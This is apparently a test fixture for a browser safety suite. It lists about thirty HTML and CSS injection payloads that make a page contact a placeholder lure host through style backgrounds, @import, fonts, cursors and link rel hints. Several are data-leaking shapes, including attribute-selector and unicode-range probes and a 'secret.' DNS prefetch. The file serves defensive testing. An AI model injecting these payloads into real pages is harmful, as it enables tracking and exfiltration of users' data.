"""Style sheets and resource hints that call home."""

# ruff: noqa: E501 - a shape stays in one piece

from __future__ import annotations

from tests.browser.safety.payloads.marks import HOME, HOST, LURE

SHAPES = {
    "style-background": f"<style>body{{background:url({LURE}?a)}}</style>",
    "style-import": f"<style>@import '{LURE}.css';@import url({LURE}.css) layer(x) supports(display:grid);</style>",
    "style-font-face": f"<style>@font-face{{font-family:x;src:url({LURE})}}body{{font-family:x}}</style>",
    "style-attribute-selector": f"<style>input[value^=a]{{background:url({LURE}?a)}}textarea:has(+*){{content:url({LURE})}}</style>",
    "style-unicode-range": f"<style>@font-face{{font-family:y;src:url({LURE});unicode-range:U+5DE5}}*{{font-family:y}}</style>",
    "style-cursor": f"<style>*{{cursor:url({LURE}),auto;list-style:url({LURE});border-image:url({LURE})}}</style>",
    "style-image-set": f"<p style=\"background:image-set('{LURE}' 1x)\">x</p>",
    "style-cross-fade": f"<p style='background:-webkit-cross-fade(url({LURE}),url({LURE}),1)'>x</p>",
    "style-var": f"<p style='--u:url({LURE});background:var(--u)'>x</p>",
    "style-src-function": f"<p style='background:src(\"{LURE}\");mask:url({LURE});filter:url({LURE}#f)'>x</p>",
    "style-escape": f"<p style='background:\\75\\72\\6c({LURE})'>x</p>",
    "style-content": f"<style>p::before{{content:url({LURE})}}</style><p>x</p>",
    "style-shape-clip": f"<p style='shape-outside:url({LURE});clip-path:url({LURE}#c);offset-path:url({LURE}#o)'>x</p>",
    "style-in-svg": f"<svg><style>*{{fill:url({LURE}#x)}}</style></svg>",
    "style-namespace": f"<style>@namespace url({LURE});@document url({LURE}){{*{{color:red}}}}</style>",
    "style-property-syntax": f"<style>@property --x{{syntax:'<url>';inherits:true;initial-value:url({LURE})}}</style>",
    "style-if-attr": f"<p data-u={LURE} style='background:url(attr(data-u))'>x</p>",
    "style-moz-binding": f"<p style='-moz-binding:url({LURE}#x);behavior:url({LURE})'>x</p>",
    "link-stylesheet": f"<link rel=stylesheet href={LURE}.css>",
    "link-alternate-stylesheet": f"<link rel='alternate stylesheet' title=x href={LURE}>",
    "link-prefetch": f"<link rel=prefetch href={LURE}>",
    "link-dns-prefetch": f"<link rel=dns-prefetch href=//secret.{HOST}>",
    "link-preconnect": f"<link rel=preconnect href={HOME} crossorigin>",
    "link-preload": f"<link rel=preload as=image href={LURE} imagesrcset='{LURE} 1x'>",
    "link-modulepreload": f"<link rel=modulepreload href={LURE}.js>",
    "link-prerender": f"<link rel=prerender href={LURE}><link rel=next href={LURE}>",
    "link-icon": f"<link rel=icon href={LURE}><link rel=apple-touch-icon href={LURE}><link rel='shortcut icon' href={LURE}>",
    "link-manifest": f"<link rel=manifest href={LURE}>",
    "link-import-and-search": f"<link rel=import href={LURE}><link rel=search href={LURE}><link rel=pingback href={LURE}>",
    "link-compression-dictionary": f"<link rel=compression-dictionary href={LURE}>",
    "link-expect": f"<link rel=expect href=#never blocking=render><link rel=preload as=script href={LURE}>",
    "link-media-and-sizes": f"<link rel=stylesheet media='print,(min-width:1px)' href={LURE}>",
    "link-in-body-svg": f"<svg><link rel=stylesheet href={LURE} xmlns=http://www.w3.org/1999/xhtml></svg>",
    "xml-stylesheet": f"<?xml-stylesheet type='text/css' href='{LURE}'?>",
}
